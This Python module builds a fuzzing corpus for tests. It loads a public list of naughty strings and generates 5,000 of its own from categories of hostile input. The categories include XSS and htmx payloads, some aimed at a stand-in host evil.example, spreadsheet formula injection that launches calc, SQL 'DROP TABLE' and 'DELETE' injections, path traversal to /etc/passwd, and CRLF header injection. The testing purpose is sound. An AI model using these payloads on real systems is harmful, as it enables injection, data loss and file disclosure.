"""Texts that break programs: a public list, which `make` brings from npm, and five thousand of our own making."""

import json
import random
from functools import cache
from pathlib import Path

_LIST = Path(__file__).parent / "vendor" / "blns.json"
_SEED, MADE = 315, 5_000
_CHINESE = "一个电饭锅用了两天就坏商家不肯退货只说已过七日"
#: What each of ours has somewhere in it, by what it is after.
_KINDS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</textarea><x315>",
        '"><x315 onclick=alert(1)>', "' x315=1 y='", "</title></script><script>alert(1)</script>", "<iframe src=//x>",
        "javascript:alert(1)", "<base href=//evil.example>", "<style>*{display:none}</style>", "<!--", "]]>",
        "&lt;b&gt;",
    ),
    "htmx": (
        '" hx-get="//evil.example" hx-trigger="load', "' hx-on::load='alert(1)' y='",
        '<b hx-post="/logout" hx-trigger="load">',
        "hx-vals='js:{a:alert(1)}'", '" data-hx-delete="/" y="', '<div hx-ext="x315" hx-boost="true">',
    ),
    "formula": (
        "=1+1", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", '=HYPERLINK("//x")', "＝１",
    ),
    "direction": ("\u202egnp.exe", "\u2066\u202b\u2069", "\u200f\u200e", "مرحبا", "\u061c", "עברית"),
    "width": ("１２３４５", "ＡＢＣ＜ｓｃｒｉｐｔ＞", "　全角　", "𝟙２³", "ﷺ", "ｱｲｳ"),
    "control": ("a\0b", "\x07\x1b[31m", "\x7f", "\u2028\u2029", "\ufeff", "\ufffe", "\x85", "\u00ad"),
    "surrogate": ("\ud800", "\udfff\ud800", "a\udc00b"),
    "long": ("x" * 2_001, "电" * 2_500, "💥" * 2_100, "a " * 1_500, "\n" * 2_100 + "a", "=" * 3_999),
    "template": (
        "{{7*7}}", "{% raw %}", "{0.__class__}", "%(field)s", "%s%n", "${7*7}", "#{7*7}", "<%= 7 %>", "{{config}}",
    ),
    "query": (
        "'; DROP TABLE facts; --", "' OR '1'='1", "\\' UNION SELECT 1 --", "%_%", "\\", "1); DELETE FROM blobs; --",
    ),
    "path": (
        "../../../etc/passwd", "..\\..\\win.ini", "/dev/null", "C:\\con", "file:///etc/passwd", "%2e%2e%2f", "//[",
    ),
    "header": ("a\r\nSet-Cookie: x=1", "a\nLocation: //evil.example", "\r\n\r\n<x315>", "%0d%0aX: y", "a;b=c, d"),
    "emoji": (
        "👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "e\u0301\u0301\u0301" * 9, "🇨🇳🇨", "\u200d\u200d", "❤\ufe0f",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L",
    ),
}  # fmt: skip


@cache
def public() -> list[str]:
    """The public list. It is not in the repository: `make test` fetches it, held to what package-lock.json pins."""
    return list(dict.fromkeys(json.loads(_LIST.read_text("utf-8"))))


@cache
def made() -> list[str]:
    """Ours: each kind alone, then kinds inside one another and inside an ordinary sentence. The same every time."""
    dice = random.Random(_SEED)
    found = dict.fromkeys(text for texts in _KINDS.values() for text in texts)
    names = list(_KINDS)
    while len(found) < MADE:
        parts = [dice.choice(_KINDS[dice.choice(names)]) for _ in range(dice.choice((1, 1, 2, 3)))]
        parts.insert(dice.randrange(len(parts) + 1), "".join(dice.choices(_CHINESE, k=dice.randrange(1, 12))))
        text = "".join(parts)
        found[text if dice.random() < 0.8 or len(text) < 8 else text[dice.randrange(len(text) // 2) :]] = None
    return list(found)[:MADE]


def texts() -> list[str]:
    return [*public(), *made()]
